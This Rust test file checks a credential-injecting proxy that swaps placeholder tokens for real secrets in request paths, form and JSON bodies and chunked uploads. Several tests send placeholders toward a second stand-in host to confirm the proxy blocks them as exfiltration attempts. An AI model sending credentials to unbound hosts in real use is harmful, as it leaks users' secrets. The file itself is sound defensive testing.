//! Placeholders in the path, opted in per credential (`locations: [path]`, Telegram's `/bot<token>/`): the
//! placeholder is found percent-decoded and replaced, re-encoded; without the opt-in it is refused as
//! misplaced, and toward another host it is an exfiltration attempt.

use crate::support::clients::curl;
use crate::support::echo::Echo;
use crate::support::proxy::Proxy;

const ROUTES: &str = r#"
resolve:
  api.keyward.test: [127.0.0.1]
  other.keyward.test: [127.0.0.1]
routes:
  - name: telegram
    hosts: ["api.keyward.test:*"]
    allow_private: true
    credentials:
      - name: telegram
        placeholder: kw-placeholder-telegram
        secret: github_token
        locations: [path]
      - name: header_only
        placeholder: kw-placeholder-header
        secret: openai_key
        header: Authorization
  - name: other
    hosts: ["other.keyward.test:*"]
    allow_private: true
"#;

#[tokio::test(flavor = "multi_thread")]
async fn a_path_placeholder_is_swapped_when_opted_in_and_refused_elsewhere() {
    let echo = Echo::https().await;
    let proxy = Proxy::spawn(ROUTES).await;
    let base = format!("https://api.keyward.test:{}", echo.port());
    for path in [
        "/botkw-placeholder-telegram/getMe?x=1",
        "/bot%6Bw-placeholder-telegram/getMe?x=1",
    ] {
        let reply = curl(&proxy, &[&format!("{base}{path}")]).await;
        assert_eq!(reply.status, 200, "{path}: {reply:?}");
        let seen = echo.requests().pop().unwrap();
        assert!(
            seen.path == "/botghp_REALSECRET_9f8e7d/getMe?x=1",
            "{path}: the upstream got the real token in the path"
        );
    }
    let misplaced = curl(&proxy, &[&format!("{base}/botkw-placeholder-header/getMe")]).await;
    assert_eq!(misplaced.status, 403);
    assert_eq!(misplaced.json()["error"], "placeholder_misplaced", "no opt-in, no path");
    let other = format!(
        "https://other.keyward.test:{}/botkw-placeholder-telegram/x",
        echo.port()
    );
    let stolen = curl(&proxy, &[&other]).await;
    assert_eq!(stolen.status, 403);
    assert_eq!(stolen.json()["error"], "placeholder_not_bound");
    for line in proxy.audit_lines() {
        assert!(
            !line.to_string().contains("REALSECRET"),
            "the audit line records the path as sent: {line}"
        );
    }
}

const BODY_ROUTES: &str = r#"
resolve:
  api.keyward.test: [127.0.0.1]
  other.keyward.test: [127.0.0.1]
routes:
  - name: slack
    hosts: ["api.keyward.test:*"]
    allow_private: true
    credentials:
      - name: slack
        placeholder: kw-placeholder-slack
        secret: maps_key
        locations: [body]
      - name: header_only
        placeholder: kw-placeholder-header
        secret: openai_key
        header: Authorization
  - name: other
    hosts: ["other.keyward.test:*"]
    allow_private: true
"#;

/// Slack's form `token=` and a JSON-RPC body: the placeholder is swapped with the value escaped for the body
/// (`maps_key` holds a space and `&`, which must be percent-encoded in a form and stay as they are in JSON),
/// and `Content-Length` is rewritten.
#[tokio::test(flavor = "multi_thread")]
async fn a_body_placeholder_is_swapped_in_form_and_json_bodies() {
    let echo = Echo::https().await;
    let proxy = Proxy::spawn(BODY_ROUTES).await;
    let url = format!("https://api.keyward.test:{}/api/chat.postMessage", echo.port());
    let real = crate::support::secret("maps_key");
    let form = curl(&proxy, &["--data", "token=kw-placeholder-slack&channel=C1", &url]).await;
    assert_eq!(form.status, 200, "{form:?}");
    let seen = echo.requests().pop().unwrap();
    let encoded = percent_encoding::utf8_percent_encode(real, percent_encoding::NON_ALPHANUMERIC).to_string();
    assert!(
        seen.body == format!("token={encoded}&channel=C1"),
        "the form carries the encoded secret"
    );
    assert_eq!(
        seen.body_len,
        seen.body.len() as u64,
        "Content-Length matches the swapped body"
    );

    let rpc = r#"{"jsonrpc":"2.0","method":"auth","params":{"token":"kw-placeholder-slack"},"id":1}"#;
    let json = curl(&proxy, &["-H", "Content-Type: application/json", "--data", rpc, &url]).await;
    assert_eq!(json.status, 200, "{json:?}");
    let seen = echo.requests().pop().unwrap();
    let value: serde_json::Value = serde_json::from_str(&seen.body).unwrap();
    assert!(
        value["params"]["token"] == real,
        "the JSON carries the secret as a JSON string"
    );

    // Not opted in: a placeholder of a header credential in the body is misplaced.
    let misplaced = curl(&proxy, &["--data", "token=kw-placeholder-header", &url]).await;
    assert_eq!(misplaced.json()["error"], "placeholder_misplaced", "{misplaced:?}");
    // Toward another host: exfiltration, nothing sent.
    let before = echo.requests().len();
    let other = format!("https://other.keyward.test:{}/x", echo.port());
    for (ctype, body) in [
        ("application/x-www-form-urlencoded", "token=kw-placeholder-slack"),
        ("application/json", r#"{"token":"kw-placeholder-slack"}"#),
    ] {
        let stolen = curl(
            &proxy,
            &["-H", &format!("Content-Type: {ctype}"), "--data", body, &other],
        )
        .await;
        assert_eq!(stolen.status, 403, "{stolen:?}");
        assert_eq!(stolen.json()["error"], "placeholder_not_bound");
    }
    assert_eq!(echo.requests().len(), before);
    // Other content types are not searched: the placeholder goes as it is (it is not a secret).
    let text = curl(
        &proxy,
        &["-H", "Content-Type: text/plain", "--data", "kw-placeholder-slack", &url],
    )
    .await;
    assert_eq!(text.status, 200);
    assert_eq!(echo.requests().pop().unwrap().body, "kw-placeholder-slack");
}

/// A streamed upload that splits the placeholder at every offset across two chunks: the body is held (up to
/// the limit) and swapped whole, wherever the split falls.
#[tokio::test(flavor = "multi_thread")]
async fn a_body_placeholder_split_at_every_chunk_offset_is_swapped() {
    use tokio::io::AsyncWriteExt;
    let echo = Echo::https().await;
    let proxy = Proxy::spawn(BODY_ROUTES).await;
    let body = "token=kw-placeholder-slack&channel=C1";
    let start = body.find("kw-").unwrap();
    let real = crate::support::secret("maps_key");
    let encoded = percent_encoding::utf8_percent_encode(real, percent_encoding::NON_ALPHANUMERIC).to_string();
    for split in start..=start + "kw-placeholder-slack".len() {
        let mut child = tokio::process::Command::new("curl")
            .args([
                "-sS",
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                "-x",
                &proxy.url(),
                "--cacert",
            ])
            .arg(proxy.ca_cert())
            .args([
                "-H",
                "Transfer-Encoding: chunked",
                "-H",
                "Content-Type: application/x-www-form-urlencoded",
            ])
            .args(["--data-binary", "@-"])
            .arg(format!("https://api.keyward.test:{}/api", echo.port()))
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(&body.as_bytes()[..split]).await.unwrap();
        stdin.flush().await.unwrap();
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        stdin.write_all(&body.as_bytes()[split..]).await.unwrap();
        drop(stdin);
        let out = child.wait_with_output().await.unwrap();
        assert_eq!(String::from_utf8_lossy(&out.stdout), "200", "split at {split}");
        let seen = echo.requests().pop().unwrap();
        assert!(
            seen.body == format!("token={encoded}&channel=C1"),
            "split at {split}: swapped"
        );
    }
}
